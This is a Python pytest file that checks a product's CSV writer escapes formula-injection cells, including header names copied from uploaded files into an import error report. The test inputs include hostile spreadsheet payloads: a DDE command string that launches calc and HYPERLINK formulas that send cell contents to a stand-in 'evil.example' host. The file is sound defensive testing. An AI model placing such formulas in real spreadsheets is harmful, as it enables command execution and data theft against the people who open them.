"""CSV (formula) injection: every CSV the product writes goes through services.common.csvfile, which makes a cell
a spreadsheet would run as a formula into text (OWASP: a leading single quote, the cell quoted)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from services.common import csvfile
from services.demo import sample_import_csv
from services.intake.referrals import bulk


@pytest.mark.parametrize(("value", "written"), [
    ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),  # the school name
    ("+44 1702 000000", "\"'+44 1702 000000\""),
    ("-2+3", "\"'-2+3\""),
    ("@SUM(A1:A2)", "\"'@SUM(A1:A2)\""),
    ("\t=1+1", "\"'\t=1+1\""),
    ("\r=1+1", "\"'\r=1+1\""),
    ('=HYPERLINK("http://evil","x")', '"\'=HYPERLINK(""http://evil"",""x"")"'),  # embedded quotes doubled
    ("Seaview Primary", '"Seaview Primary"'),  # text is quoted, not changed
    ("a=b", '"a=b"'),  # only the first character counts
    ("'=already", "\"'=already\""),  # a leading quote is text already
    ("", '""'),
    (None, '""'),
    (-3, "-3"),  # numbers the product writes stay numbers, negative ones too
    (2.5, "2.5"),
    (0, "0"),
])
def test_each_cell_is_written_safe(value: object, written: str) -> None:
    assert csvfile.write_rows(["x"], [[value]]) == f'"x"\r\n{written}\r\n'


def test_the_header_is_made_safe_too_and_the_file_reads_back() -> None:
    text = csvfile.write_dicts(["=name", "count"], [{"=name": "-x", "count": -1}, {"count": 4}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=name", "count"], ["'-x", "-1"], ["", "4"]]


def test_the_import_error_report_escapes_a_header_name_copied_from_the_file() -> None:
    """The reproduction: a column not in the layout is named in the error report as the file spells it."""
    good = sample_import_csv(1, 0, today=date(2026, 3, 4))
    header, row = good.split("\r\n", 1)
    hostile = header + ',"=HYPERLINK(""http://evil.example/?""&A2,""open"")"\r\n' + row.rstrip("\r\n") + ",x\r\n"
    checked = bulk.check(hostile, today=date(2026, 3, 4))
    assert checked.problems[0].column.startswith("=HYPERLINK")  # named as the file spells it (shown as text on pages)
    report = checked.report_csv()
    cells = [cell for line in csv.reader(io.StringIO(report)) for cell in line]
    assert not any(cell.startswith(csvfile.FORMULA_STARTS) for cell in cells)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")" in cells


def test_the_sample_import_file_still_reads_as_it_did() -> None:
    text = sample_import_csv(5, 1, today=date(2026, 3, 4))
    checked = bulk.check(text, today=date(2026, 3, 4))
    assert len(checked.valid) == 4 and len(checked.bad_rows) == 1
